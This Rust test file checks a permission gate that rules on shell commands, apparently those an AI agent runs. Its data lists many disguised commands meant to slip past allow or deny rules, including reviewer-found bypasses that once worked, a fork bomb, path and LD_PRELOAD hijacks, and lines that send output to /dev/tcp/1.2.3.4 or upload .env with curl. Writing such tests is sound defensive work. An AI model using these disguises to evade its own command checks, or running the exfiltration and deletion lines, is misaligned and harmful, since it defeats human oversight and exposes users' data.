//! Lines that hide something in the shell's own language: none of them passes unasked.
//!
//! One table for each class of the security reference. `GIT` is the grant of nearly every line: what
//! is asked about here is the shape of the line, not what the program does.

use prowess_policy::{Actor, Effect, Gate, GateAction, RuleSource, Verdict};

fn gate(allow: &[&str], ask: &[&str], deny: &[&str]) -> Gate {
    let mut gate = Gate::default();
    for (effect, list) in [
        (Effect::Allow, allow),
        (Effect::Ask, ask),
        (Effect::Deny, deny),
    ] {
        for rule in list {
            gate.rules.add(effect, rule, RuleSource::Flag);
        }
    }
    gate
}

#[track_caller]
fn all(expected: Verdict, allow: &[&str], deny: &[&str], lines: &[&str]) {
    let gate = gate(allow, &[], deny);
    let wrong: Vec<String> = lines
        .iter()
        .filter_map(|line| {
            let decision = gate.decide(&GateAction::Command { text: line }, &Actor::default());
            (decision.verdict != expected).then(|| format!("{line:?}: {decision:?}"))
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "{} of {}:\n{}",
        wrong.len(),
        lines.len(),
        wrong.join("\n")
    );
}

const GIT: &[&str] = &["Bash(git:*)"];
const NO_RM: &[&str] = &["Bash(rm:*)"];

#[test]
fn structure() {
    all(
        Verdict::Ask,
        GIT,
        &[],
        &[
            "git status; id",
            "git status && id",
            "git status || id",
            "git status | sh",
            "git status & id",
            "git status &",
            "git status\nid",
            "git status |& id",
            "id; git status",
            "(git status; id)",
            "{ git status; id; }",
            "if git status; then id; fi",
            "while git status; do id; done",
            "until git status; do id; done",
            "for x in a; do git status; done",
            "case x in x) id;; esac",
            "git() { id; }; git status",
            "function git { id; }; git status",
            "git status; git() { id; }",
            "hash -p /tmp/evil git; git status",
            "trap id EXIT; git status",
            "trap 'id' DEBUG\ngit status",
            "alias git=id; git status",
            "git status # it's\nid # '",
            "git status # \"\nid # \"",
            "git status #\\\nid",
            "git status ;; id",
            "git status ;& id",
            "! git status",
            "git status; ! id",
            "coproc git status",
            "coproc id",
            "time git status",
            "[[ -n x ]] && git status",
            "(( 1 )) && git status",
            "git status; exec id",
            "git status && . ./x",
            "git status; source x",
            "git log 'unclosed",
            "git log \"unclosed",
            "git log \\",
            "git log )",
            "git log }",
            "git status && && id",
            "| git status",
            "&& git status",
            "; git status",
            "git status; :(){ :|:& };:",
            "select x in a; do git status; done",
            "enable -f ./x.so x; git status",
            "git status\u{2028}id && id",
        ],
    );
}

#[test]
fn expansion() {
    all(
        Verdict::Ask,
        &[
            "Bash(git:*)",
            "Bash(printf:*)",
            "Bash(test:*)",
            "Bash([:*)",
            "Bash(echo:*)",
        ],
        &[],
        &[
            "git log $(id)",
            "git log `id`",
            "git log \"$(id)\"",
            "git log \"`id`\"",
            "git log <(id)",
            "git log >(id)",
            "git log $x",
            "git log ${x}",
            "git log \"${x}\"",
            "git log $((1+1))",
            "git log $[ 1 ]",
            "git log ${x@P}",
            "git log ${x:-$(id)}",
            "git log ${x:=y}",
            "git log $'\\x2d-output=x'",
            "git log $\"x\"",
            "git log $@",
            "git log $*",
            "git log $1",
            "git log $$",
            "git log $!",
            "git log $?",
            "git log $",
            "git log \"$\"",
            "git log a$",
            "git log {a,b}",
            "git log --out{put,x}=y",
            "git log {1..3}",
            "git *",
            "git log *",
            "git log -*",
            "git log --*",
            "git log ?x",
            "git log [a-z]",
            "git log [!a]",
            "git log ~",
            "git log ~root",
            "git log --output=~/x",
            "git log x:~/y",
            "git ~+",
            "printf -v x y",
            "printf -v 'a[$(id)]' x",
            "test -v 'a[$(id)]'",
            "[ -v 'a[$(id)]' ]",
            "[ 'a[$(id)]' -eq 1 ]",
            "echo !!",
            "echo !git",
            "git log @(a|b)",
            "git log +(a)",
            "git log \u{200b}x",
            "git log '\u{202e}x'",
        ],
    );
}

#[test]
fn spelling_of_what_is_forbidden() {
    all(
        Verdict::Deny,
        &["Bash"],
        NO_RM,
        &[
            "rm x",
            " rm x",
            "\trm x",
            "rm\tx",
            "rm  -rf  x",
            "'rm' x",
            "\"rm\" x",
            "r'm' x",
            "\\rm x",
            "r\\m x",
            "rm\\\n x",
            "r\\\nm x",
            "r\"\"m x",
            "''rm x",
            "/bin/rm x",
            "/usr/bin/rm x",
            "/bin/../bin/rm x",
            "//bin//rm x",
            "./rm x",
            "../bin/rm x",
            "~/bin/rm x",
            "$'rm' x",
            "$'\\162\\155' x",
            "$'\\x72\\x6d' x",
            "$'r\\u006d' x",
            "$\"rm\" x",
            "r${x}m x",
            "r$@m x",
            "${x:-rm} x",
            "/bin/r? x",
            "/b*/rm x",
            "/bin/[r]m x",
            "{rm,-rf,x}",
            "A=1 rm x",
            "A=1 B=2 rm x",
            "a[0]=1 rm x",
            "A+=1 rm x",
            "env rm x",
            "env -i rm x",
            "env A=1 rm x",
            "env -u A rm x",
            "command rm x",
            "builtin command rm x",
            "exec rm x",
            "exec -a y rm x",
            "nohup rm x",
            "nice rm x",
            "nice -n 19 rm x",
            "time rm x",
            "timeout 5 rm x",
            "timeout -k 1 5 rm x",
            "stdbuf -oL rm x",
            "setsid rm x",
            "sudo rm x",
            "sudo -u root rm x",
            "doas rm x",
            "xargs rm",
            "echo x | xargs -n1 rm",
            "xargs -I{} rm {}",
            "find . -exec rm {} \\;",
            "find . -ok rm {} \\;",
            "find . -execdir rm {} +",
            "fd -x rm",
            "sh -c 'rm x'",
            "bash -c 'cd a && rm x'",
            "bash -lc 'rm x'",
            "eval 'rm x'",
            "eval rm x",
            "ssh host rm x",
            "watch rm x",
            "busybox rm x",
            "! rm x",
            "if rm x; then :; fi",
            "while rm x; do :; done",
            "(rm x)",
            "{ rm x; }",
            "f() { rm x; }",
            "true; rm x",
            "true && rm x",
            "true || rm x",
            "true | rm x",
            "true & rm x",
            "true |& rm x",
            "echo $(rm x)",
            "echo \"$(rm x)\"",
            "echo `rm x`",
            "cat <(rm x)",
            "cat <<< \"$(rm x)\"",
            "cat <<E\n$(rm x)\nE",
            "bash <<E\nrm x\nE",
            "echo x >$(rm x)",
            "x=$(rm x)",
            "x=`rm x` y",
            "[[ $(rm x) ]]",
            "echo ${x:-$(rm x)}",
            "case $(rm x) in esac",
            "for x in $(rm y); do :; done",
            "trap 'rm x' EXIT",
            "rm",
            "rm;",
            "git status # '\nrm x # '",
            "echo \\\\; rm x",
            "echo '\\'; rm x",
            "echo \"\\\"\"; rm x",
        ],
    );
}

#[test]
fn spelling_of_what_is_allowed() {
    all(
        Verdict::Ask,
        GIT,
        &[],
        &[
            "./git status",
            "../git status",
            "/tmp/git status",
            "/usr/bin/git status",
            "bin/git status",
            "Git status",
            "GIT status",
            "gіt status",
            "ｇｉｔ status",
            "git\u{200b} status",
            "\u{202e}git status",
            "git\u{a0}status",
            "git\0status",
            "git\rstatus",
            "git\u{1b}[2K status",
            "gitx status",
            "git- status",
            "git.exe status",
            "%git",
            "git\\\n-upload-pack x",
            "git''-upload-pack x",
            "\"git status\"",
            "'git status'",
            "g*t status",
            "gi? status",
            "",
            " ",
            "\n",
            "#git status",
            ": git status",
            "@git status",
            "git\u{feff} status",
            "=git status",
        ],
    );
}

#[test]
fn environment() {
    all(
        Verdict::Ask,
        &[
            "Bash(git:*)",
            "Bash(cd:*)",
            "Bash(export:*)",
            "Bash(declare:*)",
            "Bash(set:*)",
        ],
        &[],
        &[
            "GIT_PAGER=id git log",
            "PATH=. git status",
            "LD_PRELOAD=./x.so git status",
            "GIT_SSH_COMMAND=id git fetch",
            "GIT_EXTERNAL_DIFF=id git diff",
            "A=1 git status",
            "a=b",
            "export GIT_PAGER=id && git log",
            "export PATH=.; git log",
            "declare -x GIT_PAGER=id; git log",
            "typeset -x A=b; git log",
            "readonly A=b; git log",
            "local A=b; git log",
            "set -a; git log",
            "set -o allexport",
            "shopt -s expand_aliases; git log",
            "PATH+=:. git status",
            "IFS=x git status",
            "BASH_ENV=x git status",
            "ENV=x git status",
            "PS4='$(id)' git status",
            "PROMPT_COMMAND=id git status",
            "cd /tmp/evil && git status",
            "cd .. && git status",
            "cd && git status",
            "cd - && git status",
            "cd ~ && git status",
            "cd /; git status",
            "pushd /tmp && git status",
            "git -C /tmp/evil status",
            "git -C .. status",
            "git --git-dir=/tmp/evil status",
            "git --work-tree=/ status",
            "git --exec-path=/tmp/evil status",
            "HOME=/tmp/evil git status",
            "XDG_CONFIG_HOME=/tmp git status",
            "GIT_CONFIG_COUNT=1 git status",
            "git log > /dev/tcp/1.2.3.4/80",
            "git log < /dev/tcp/1.2.3.4/80",
            "read A && git log",
            "unset PATH; git log",
            "ulimit -c 0; git log",
            "umask 0; git log",
        ],
    );
}

#[test]
fn redirections() {
    all(
        Verdict::Ask,
        &["Bash(git:*)", "Bash(cat:*)"],
        &[],
        &[
            "git log > x",
            "git log >x",
            "git log >> x",
            "git log 1> x",
            "git log 2> x",
            "git log 2>> x",
            "git log &> x",
            "git log &>> x",
            "git log >& x",
            "git log >| x",
            "git log 3> x",
            "git log <> x",
            "git log > \"x\"",
            "git log > 'x y'",
            "git log > /dev/nullx",
            "git log > /dev/null/x",
            "git log > /dev/./null",
            "git log >/dev/sda",
            "git log > /dev/stdout",
            "git log > $x",
            "git log > ~/x",
            "git log > *",
            "git log >x>y",
            "git log 10>x",
            "git log {fd}>x",
            "> x",
            "> x git log",
            "< x git log",
            "git log >&-",
            "git log 2>&1 >x",
            "git log >/dev/null > x",
            "cat << E\nx\nE",
            "cat <<E\n$(id)\nE",
            "cat <<'E'\nx\nE\nid",
            "cat <<-E\n\tx\nE",
            "cat <<< x",
            "cat <<< $(id)",
            "git log | cat > x",
            "cat < x",
            "cat <&3",
            "git log 2>&1x",
            "git log >&2x",
            "git log 1>&y",
        ],
    );
}

#[test]
fn patterns() {
    let asked = [
        ("Bash(ls:*)", "lsof"),
        ("Bash(ls *)", "lsof -i"),
        ("Bash(git status:*)", "git statusx"),
        ("Bash(git status:*)", "git stat"),
        ("Bash(git status:*)", "git -v status"),
        ("Bash(git status)", "git status -s"),
        ("Bash(git status)", "git  status; id"),
        ("Bash (git:*)", "git status"),
        ("Bash(git:*", "git status"),
        ("Bash git:*)", "git status"),
        ("Bash(:*)", "id"),
        ("Bash( :*)", "id"),
        ("Bash()", "id"),
        ("Bash(**)", "id"),
        ("Bash(* )", "id"),
        ("Bash(git.*)", "git status"),
        ("Bash(^git)", "git status"),
        ("Bash(/git.*/)", "git status"),
        ("Bash(git|ls)", "git status"),
        ("Bash(git;ls:*)", "ls"),
        ("Bash(git * main)", "git push; rm main"),
        ("Bash(git * main)", "git push\nid main"),
        ("Bash(git * main)", "git log | id main"),
        ("Bash(git * main)", "git log $(id) main"),
        ("Bash(npm run *)", "npm runx y"),
        ("Bash(npm run:*)", "npm install"),
        ("Bash(git:* push)", "git push"),
        ("Bash(*)(git)", "id"),
        ("bash(git:*)", "git status"),
        ("BASH(git:*)", "git status"),
        ("Bash(git\u{200b}:*)", "git status"),
        ("Bash(git $x:*)", "git status"),
        ("Bash('git':*", "git status"),
        ("Read(git)", "git status"),
        ("Skill(git)", "git status"),
        ("git", "git status"),
        ("git:*", "git status"),
        ("*", "git status"),
        ("Bash(g*:*)x", "git status"),
    ];
    for (rule, line) in asked {
        let decision =
            gate(&[rule], &[], &[]).decide(&GateAction::Command { text: line }, &Actor::default());
        assert_eq!(
            decision.verdict,
            Verdict::Ask,
            "{rule} {line:?}: {decision:?}"
        );
    }
}

#[test]
fn gaps_between_parsers() {
    all(
        Verdict::Ask,
        GIT,
        &[],
        &[
            "git log \"\"\\ #; touch pwned",
            "git log ''\\ # x; id",
            "git\\\n-upload-pack x",
            "git log a\\ #b; id",
            "git log $; id",
            "git log \"a\"#; id",
            "git log %; id",
            "git log \\\n#x; id\nid",
            "git log a'b'#c; id",
            "git log\\; id; id",
        ],
    );
}

#[test]
fn precedence() {
    let many = |part: &str, count: usize, last: &str| {
        format!("{}{last}", format!("{part}; ").repeat(count))
    };
    for (line, expected) in [
        (many("git status", 60, "git status"), Verdict::Allow),
        (many("git status", 60, "id"), Verdict::Ask),
        (many("git status", 60, "rm x"), Verdict::Deny),
        (many("git status", 5_000, "git status"), Verdict::Ask),
        (many("git status", 5_000, "rm x"), Verdict::Deny),
        (many(":", 5_000, "rm x"), Verdict::Deny),
    ] {
        let decision =
            gate(GIT, &[], NO_RM).decide(&GateAction::Command { text: &line }, &Actor::default());
        assert_eq!(
            decision.verdict,
            expected,
            "{} bytes: {decision:?}",
            line.len()
        );
    }
    let megabyte = format!("git log {}", "a".repeat(1 << 20));
    let deep = format!("git log {}{}", "$(".repeat(2_000), ")".repeat(2_000));
    for line in [&megabyte, &deep] {
        let ask =
            gate(GIT, &[], &[]).decide(&GateAction::Command { text: line }, &Actor::default());
        assert_eq!(ask.verdict, Verdict::Ask);
        let deny =
            gate(GIT, &[], NO_RM).decide(&GateAction::Command { text: line }, &Actor::default());
        assert_eq!(deny.verdict, Verdict::Deny);
    }
}

/// A limit of the search does not bypass a deny rule.
#[test]
fn limits_that_fail_closed() {
    let execs = |count: usize| format!("find . {}-exec rm {{}} +", "-exec ls {} + ".repeat(count));
    let wrapped = |count: usize| format!("{}rm x", "nice timeout 5 ".repeat(count));
    let parts = |count: usize| format!("{}env rm x", "ls; ".repeat(count));
    let nested = |count: usize| {
        let mut line = "rm x".to_owned();
        for _ in 0..count {
            line = format!(
                "sh -c {}",
                line.replace('\\', "\\\\")
                    .replace(' ', "\\ ")
                    .replace('\'', "\\'")
            );
        }
        line
    };
    let mut lines = vec![
        execs(16),
        execs(100),
        wrapped(20),
        wrapped(250),
        parts(4_096),
        parts(10_000),
    ];
    lines.extend([nested(3), nested(6)]);
    for line in lines {
        for mode in [
            prowess_policy::PermissionMode::Ask,
            prowess_policy::PermissionMode::Yolo,
        ] {
            let mut gate = gate(&["Bash"], &[], NO_RM);
            gate.mode = mode;
            let decision = gate.decide(&GateAction::Command { text: &line }, &Actor::default());
            assert_eq!(
                decision.verdict,
                Verdict::Deny,
                "{} bytes: {decision:?}",
                line.len()
            );
        }
    }
}

#[test]
fn exact_rules_match_only_that_line() {
    for line in ["cat a | sh", "ls; rm x", "a && b || c"] {
        let rule = format!("Bash({line})");
        let decide = |gate: Gate| {
            gate.decide(&GateAction::Command { text: line }, &Actor::default())
                .verdict
        };
        assert_eq!(
            decide(gate(&["Bash"], &[], &[&rule])),
            Verdict::Deny,
            "{line}"
        );
        assert_eq!(
            decide(gate(&["Bash"], &[&rule], &[])),
            Verdict::Ask,
            "{line}"
        );
        assert_eq!(decide(gate(&[&rule], &[], &[])), Verdict::Allow, "{line}");
    }
    let own = gate(&["Bash(ls > out.txt)"], &[], &[]);
    let decide = |line| {
        own.decide(&GateAction::Command { text: line }, &Actor::default())
            .verdict
    };
    assert_eq!(decide("ls > out.txt"), Verdict::Allow);
    assert_eq!(decide("ls > other.txt"), Verdict::Ask);
}

/// Findings of a reviewer.
#[test]
fn disguises_that_once_worked() {
    all(
        Verdict::Deny,
        &["Bash"],
        NO_RM,
        &[
            "eval 'echo a;' rm x",
            "eval echo a \\; rm x",
            "eval \"echo a\" \"; rm x\"",
            "function f { rm x; }; f",
            "function git { rm x; }",
            "time -p rm x",
            "time -- rm x",
            "coproc N { rm x; }",
            "echo $(case x in x) rm y;; esac)",
            "echo $(case x in a) ls;; b) rm y;; esac)",
            "case x in x) rm y;; esac",
            "bash <<< 'rm x'",
            "sh <<< rm\\ x",
            "{fd}>x rm y",
            "r{m,n} x",
            "{r,}m x",
            "${x:-r}m y",
            "/bin/[qr]m x",
            "/bin/[!a]m x",
            "$x rm y",
            "\"$x\" rm y",
            "GIT_EDITOR='rm x' git commit",
            "PROMPT_COMMAND='rm x' bash",
            "A=1 B='rm x' ls",
        ],
    );
    let deny = |rule: &str, lines: &[&str]| all(Verdict::Deny, &["Bash"], &[rule], lines);
    deny(
        "Bash(rm -rf:*)",
        &[
            "rm -Rf x",
            "rm -fR x",
            "rm -R -f x",
            "rm -r --force x",
            "rm --recursive -f x",
        ],
    );
    deny(
        "Bash(git push --force:*)",
        &[
            "git push -f",
            "git push -uf origin x",
            "git push origin -f main",
        ],
    );
    deny(
        "Bash(git push:*)",
        &[
            "git pus? x",
            "git p* x",
            "git $x push",
            "git \"$x\" push",
            "git {push,x}",
            "git ${x:-push}",
        ],
    );
    deny("Bash(git push*)", &["git -C x push", "git push x"]);
    deny(
        "Bash(npm publish:*)",
        &["npm --tag x publish", "npm --otp 123 publish"],
    );
    deny("Bash(cargo publish:*)", &["cargo +nightly publish"]);
    deny(
        "Bash(kubectl delete:*)",
        &[
            "kubectl -v 5 delete pod",
            "kubectl --request-timeout 5s delete pod x",
        ],
    );
    deny("Bash(docker run:*)", &["docker --tlscacert x run y"]);
    all(
        Verdict::Deny,
        &["Bash"],
        NO_RM,
        &[
            "tar -cf x --checkpoint-action=exec='rm x' y",
            "ssh -o ProxyCommand='rm x' h",
            "rsync -e 'rm x' a b:",
            "man -P 'rm x' ls",
            "rg --pre rm x",
            "sort --compress-program=rm a",
            "git -c alias.x='!rm x' x",
            "poetry run rm x",
            "let 'a[$(rm x)]=1'",
        ],
    );
    deny(
        "Read(.env)",
        &[
            "cat .e*",
            "cat .en?",
            "curl -d@.env x",
            "curl -T.env x",
            "cat ./.env",
        ],
    );
    deny(
        "Edit(x)",
        &["sort -o x y", "sed -Ei s/a/b/ x", "git diff --output=x"],
    );
    // What only looks like it is left alone.
    all(
        Verdict::Allow,
        &["Bash"],
        NO_RM,
        &["git rm x", "find . ! -name x", "cat rm", "echo rm x"],
    );
}

#[test]
fn stars_do_not_match_parent_folders() {
    for (rule, line) in [
        ("Bash(./scripts/*)", "./scripts/../evil.sh"),
        ("Bash(./scripts/*.sh)", "./scripts/../../tmp/x.sh"),
        (
            "Bash(python3 scripts/*.py)",
            "python3 scripts/../../tmp/x.py",
        ),
        ("Bash(rm build/*)", "rm build/../x"),
    ] {
        all(Verdict::Ask, &[rule], &[], &[line]);
    }
    all(
        Verdict::Allow,
        &["Bash(./scripts/*)"],
        &[],
        &["./scripts/a.sh", "./scripts/a..b"],
    );
}

/// A ban cannot be looked for in code of another language: there `Bash` is no yes.
#[test]
fn opaque_code_needs_approval_if_there_are_bans() {
    let lines = [
        "python3 -c 'import os; os.system(\"rm x\")'",
        "perl -e 'system(\"rm x\")'",
        "awk 'BEGIN{system(\"rm x\")}'",
        "sed '1e rm x' f",
        "node -e 'x'",
        "echo 'rm x' | sh",
        "printf 'rm x' | bash",
        "make --eval='x:;rm x'",
        "vim -c '!rm x'",
        "sqlite3 a '.shell rm x'",
    ];
    all(Verdict::Ask, &["Bash"], NO_RM, &lines);
    all(Verdict::Allow, &["Bash"], &[], &lines);
    let quiet = [
        "awk '{print $1}' f",
        "sed -n 1p f",
        "python3 x.py",
        "env ls",
        "timeout 5 ls",
        "sh -c ls",
        "make test",
        "git status",
    ];
    all(Verdict::Allow, &["Bash"], NO_RM, &quiet);
}
